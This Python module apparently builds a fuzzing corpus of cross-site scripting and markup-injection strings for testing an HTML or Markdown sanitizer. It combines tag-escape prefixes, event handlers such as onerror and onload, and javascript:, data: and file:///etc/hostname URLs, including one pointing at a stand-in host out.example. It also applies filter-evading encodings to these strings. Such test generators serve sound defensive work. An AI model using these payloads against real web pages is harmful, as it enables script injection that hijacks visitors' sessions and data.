"""Text that tries to become code, made by rules: how it gets out of where it stands, what it opens, how it is spelt."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice

__all__ = ["payloads"]

# Ways out of an attribute, an element, a comment, a code span, a line.
_EXITS = [
    "", '">', "'>", "`>", "--><", "]]>", "*/", "</p>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>", "\n\n", "\n---\n", '\\">', "&quot;>",
    "\u2028", "\x00", "\u0338", "```\n", "{{", "{%", "${",
]  # fmt: skip
_HANDLERS = [
    "img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus",
    "a href=# onclick", "div onmouseover", "marquee onstart", "object data=x onerror", "style onload", "iframe onload", "link rel=stylesheet href=x onerror", "p style=animation:x onanimationstart",
    "form onsubmit", "button onpointerdown", "img srcset=x onerror", "custom-tag tabindex=0 onfocus", "math onclick", "dialog open onclose",
]  # fmt: skip
_ADDRESSES = [
    "javascript:report(1)", "JaVaScRiPt:report(1)", "java\tscript:report(1)", "java\nscript:report(1)", "\x01javascript:report(1)", "&#106;avascript:report(1)", "&#x6A;avascript&colon;report(1)",
    "vbscript:report(1)", "data:text/html,<script>report(1)</script>", "//out.example/a.js", "https://out.example/a", "feed:javascript:report(1)", "blob:https://out.example/1",
    "{filename}/../archive.yaml", "{static}archive.yaml", "{attach}archive.yaml", "|static|archive.yaml", "file:///etc/hostname",
]  # fmt: skip
_CARRIERS = [
    '<a href="{}">go</a>', "<a href='{}'>go</a>", "<a href={}>go</a>", "[go]({})", "[go](<{}>)", "![go]({})", "[go][1]\n\n[1]: {}", "<{}>", '<iframe src="{}"></iframe>', '<form action="{}"><button>go</button></form>',
    '<base href="{}">', '<meta http-equiv="refresh" content="0;url={}">', '<object data="{}"></object>', '<img src="{}">', '<svg><use href="{}"></use></svg>', '<script src="{}"></script>', '<link rel="stylesheet" href="{}">',
    '<x alt="src=\'{}\'">',
]  # fmt: skip
_SPELLINGS = [
    lambda text: text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;"),
    lambda text: text.replace("<", "&amp;lt;"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.upper().replace("REPORT", "report"),
    lambda text: text.replace("<", "\uff1c"),
    lambda text: "`" + text + "`",
    lambda text: "    " + text,
    lambda text: "| a |\n|---|\n| " + text + " |",
    lambda text: text + " {: onclick='report(1)' }",
    lambda text: "[^" + text + "]",
    lambda text: "*[X]: " + text + "\n\nX",
]


def _all() -> Iterator[str]:
    exits, spellings = cycle(_EXITS), cycle(_SPELLINGS)
    for _round in range(9):
        for handler in _HANDLERS:
            yield next(spellings)(f"{next(exits)}<{handler}=report(1)>")
        for number, carrier in enumerate(_CARRIERS):
            address = _ADDRESSES[(number * 5 + _round * 7) % len(_ADDRESSES)]
            yield next(spellings)(next(exits) + carrier.replace("{}", address))
        yield next(spellings)(f"{next(exits)}<script>report(1)</script>")


def payloads(number: int) -> list[str]:
    """The first `number` of them, each once."""
    return list(islice(dict.fromkeys(_all()), number))
